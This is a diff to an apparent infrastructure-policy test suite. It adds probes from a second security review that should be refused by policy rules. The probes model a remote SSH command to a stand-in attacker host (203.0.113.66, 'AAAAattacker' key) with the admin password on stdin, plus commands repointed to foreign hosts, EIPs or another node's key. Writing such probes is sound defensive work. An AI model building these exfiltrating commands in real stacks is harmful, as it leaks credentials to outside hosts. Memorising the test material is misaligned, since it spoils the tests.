@@ -724,6 +724,90 @@ PROBES = [
         refused_by="command-remote-command",
     ),
 ]
+# The second independent review of issue 22 (its findings 1-10), each probe passed the pack before its fix.
+SECRET_SIGNATURE = "1b47061264138c4ac30d75fd1eb44270"
+
+
+def exfiltrating_command(stack: list[EngineResource]) -> list[EngineResource]:
+    """Review 2, P1: a new remote command at the stack's root to a foreign host with its own pinned key, the
+    admin password on stdin."""
+    connection = {"host": "203.0.113.66", "user": "x", "privateKey": "k", "hostKey": "ssh-ed25519 AAAAattacker"}
+    return [
+        made(
+            "command:remote:Command",
+            "exfil",
+            {
+                "create": "cat > /dev/null",
+                "stdin": {SECRET: SECRET_SIGNATURE, "value": "the-admin-password"},
+                "connection": {SECRET: SECRET_SIGNATURE, "value": connection},
+            },
+        )
+    ]
+
+
+def repointed_command(stack: list[EngineResource]) -> list[EngineResource]:
+    """Review 2, P1b: the program's own command re-pointed to another host and key (its dependencies unchanged)."""
+    return in_connection(lambda c: c.update(host="203.0.113.66", hostKey="ssh-ed25519 AAAAattacker"))(stack)
+
+
+def command_from_a_foreign_host(stack: list[EngineResource]) -> list[EngineResource]:
+    """The program's command with its connection from a resource of the probe's, not the VM's EIP."""
+    eip = made("aws:ec2/eip:Eip", "probe-eip", {"domain": "vpc"}, outputs={"domain": "vpc", "publicIp": "203.0.113.66"})
+    command_resource = repointed_command(stack)[0]
+    deps = [u for u in command_resource.property_dependencies["connection"] if not u.endswith("-eip")]
+    command_resource.property_dependencies = {**command_resource.property_dependencies, "connection": [*deps, eip.urn]}
+    return [eip, command_resource]
+
+
+REVIEW2_PROBES = [
+    Probe(
+        "review2-remote-commands",
+        "P1 a remote command at the root to any host with its own pinned key, a secret on stdin",
+        "dev",
+        exfiltrating_command,
+        refused_by="command-remote-command",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1 (stack) the same command is no program component's",
+        "dev",
+        exfiltrating_command,
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1b the program's command re-pointed to another host and key",
+        "dev",
+        repointed_command,
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1c the program's command connecting through an EIP of its own",
+        "dev",
+        command_from_a_foreign_host,
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+    Probe(
+        "review2-remote-commands",
+        "P1d node 1's command with node 0's host key",
+        "ha",
+        lambda s: [node1_with_node0_key(s)],
+        refused_by="remote-commands-reach-the-programs-vms",
+    ),
+]
+
+
+def node1_with_node0_key(stack: list[EngineResource]) -> EngineResource:
+    command_resource = changed(stack, "harbor-install-1-start", lambda p: p)
+    key0 = registration_of(stack, "harbor-vm-host-key").urn
+    deps = [u if not u.endswith("-host-key") else key0 for u in command_resource.property_dependencies["connection"]]
+    command_resource.property_dependencies = {**command_resource.property_dependencies, "connection": deps}
+    return command_resource
+
+
+PROBES += REVIEW2_PROBES
+
 ISSUE_GAPS = (
     "imds",
     "identity",
